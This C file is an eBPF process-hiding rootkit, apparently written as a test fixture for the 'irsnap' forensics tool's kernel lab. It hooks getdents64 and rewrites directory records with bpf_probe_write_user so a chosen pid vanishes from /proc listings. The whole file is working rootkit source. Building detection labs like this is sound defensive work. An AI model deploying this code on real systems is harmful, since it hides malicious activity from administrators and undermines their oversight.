// SPDX-License-Identifier: GPL-2.0
// A TEST rootkit for irsnap's kernel lab (tests/kernel-lab, docs/kernel-lab.md), loaded only
// inside the lab's throw-away QEMU guest by bpf_hide_pid.c.
//
// What it does, the way public eBPF rootkits do it: the getdents64 system call is watched on its
// two tracepoints. On entry the caller's dirent buffer pointer is saved per thread; on exit the
// linux_dirent64 records the kernel wrote there are walked, and when one is named after the pid
// to hide, the previous record's d_reclen is grown by the hidden record's length with
// bpf_probe_write_user. Every reader of the buffer (readdir in libc, busybox ls and ps, a static
// irsnap) steps over the entry. No kernel code is changed and no module is loaded: the program
// needs only CAP_SYS_ADMIN and a kernel without lockdown.
//
// Limits (enough for the lab): every directory is filtered, not only /proc; an entry that is the
// first record of a buffer cannot be hidden this way (no previous record) and stays listed.
//
// No vmlinux.h: the syscall tracepoints' contexts have a fixed layout (8 bytes of common fields,
// the syscall number in an 8-byte slot, then the six arguments or the return value).

typedef unsigned char __u8;
typedef unsigned short __u16;
typedef unsigned int __u32;
typedef unsigned long long __u64;
typedef int __s32;
typedef long long __s64;
typedef __u16 __be16;  // named by bpf_helper_defs.h
typedef __u32 __be32;
typedef __u32 __wsum;
typedef _Bool bool;
#define true 1
#define false 0

enum bpf_map_type { BPF_MAP_TYPE_HASH = 1 };

#include <bpf/bpf_helpers.h>

char LICENSE[] SEC("license") = "GPL";  // bpf_probe_write_user is a GPL-only helper

/// The pid to hide as its /proc entry's name, NUL-terminated; the loader sets it before load.
const volatile char pid_name[16] = {0};

struct sys_enter_getdents64_args {
    __u64 common;
    long syscall_nr;
    long fd;
    __u64 dirent;  // struct linux_dirent64 __user *
    long count;
};

struct sys_exit_getdents64_args {
    __u64 common;
    long syscall_nr;
    long ret;
};

// struct linux_dirent64: d_ino (8), d_off (8), d_reclen (2), d_type (1), d_name[].
#define DIRENT_RECLEN 16
#define DIRENT_NAME 19

/// Records walked in one buffer at most (bpf_loop's bound): a 32 KiB readdir buffer of /proc
/// holds about 1400 records of short names.
#define MAX_RECORDS 4096

/// One thread's walk of its getdents64 buffer. It lives in the map, not on the stack: the
/// verifier tracks no value kept in a map, so the loop body below is verified once for any
/// offset (with the offsets on the stack, newer verifiers follow every iteration and give up).
struct walk {
    __u64 buf;      // the caller's dirent buffer
    long size;      // bytes the kernel wrote there
    long pos;       // offset of the record looked at
    long prev_pos;  // offset of the record before it, -1 for none
    __u16 prev_reclen;
};

struct {
    __uint(type, BPF_MAP_TYPE_HASH);
    __uint(max_entries, 1024);
    __type(key, __u64);  // pid_tgid of the thread in getdents64
    __type(value, struct walk);
} walks SEC(".maps");

SEC("tracepoint/syscalls/sys_enter_getdents64")
int getdents64_enter(struct sys_enter_getdents64_args* ctx) {
    __u64 id = bpf_get_current_pid_tgid();
    struct walk w = {.buf = ctx->dirent, .prev_pos = -1};
    bpf_map_update_elem(&walks, &id, &w, 0);
    return 0;
}

static bool is_target(const char* name) {
    for (int i = 0; i < (int)sizeof(pid_name); i++) {
        if (name[i] != pid_name[i]) return false;
        if (name[i] == 0) return true;
    }
    return false;
}

/// One record of the buffer: 0 to go on to the next, 1 to stop.
static long walk_record(__u32 index, void* unused) {
    __u64 id = bpf_get_current_pid_tgid();
    struct walk* w = bpf_map_lookup_elem(&walks, &id);
    if (!w || w->pos < 0 || w->pos >= w->size) return 1;
    const __u64 record = w->buf + w->pos;
    __u16 reclen = 0;
    if (bpf_probe_read_user(&reclen, sizeof(reclen), (void*)(record + DIRENT_RECLEN)) != 0)
        return 1;
    if (reclen == 0) return 1;
    char name[sizeof(pid_name)] = {};
    if (bpf_probe_read_user_str(name, sizeof(name), (void*)(record + DIRENT_NAME)) > 0 &&
        is_target(name)) {
        if (w->prev_pos >= 0) {
            __u16 grown = w->prev_reclen + reclen;
            bpf_probe_write_user((void*)(w->buf + w->prev_pos + DIRENT_RECLEN), &grown,
                                 sizeof(grown));
        }
        return 1;
    }
    w->prev_pos = w->pos;
    w->prev_reclen = reclen;
    w->pos += reclen;
    return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int getdents64_exit(struct sys_exit_getdents64_args* ctx) {
    __u64 id = bpf_get_current_pid_tgid();
    struct walk* w = bpf_map_lookup_elem(&walks, &id);
    if (!w) return 0;
    w->size = ctx->ret;
    if (w->size > 0 && pid_name[0] != 0) bpf_loop(MAX_RECORDS, walk_record, NULL, 0);
    bpf_map_delete_elem(&walks, &id);
    return 0;
}
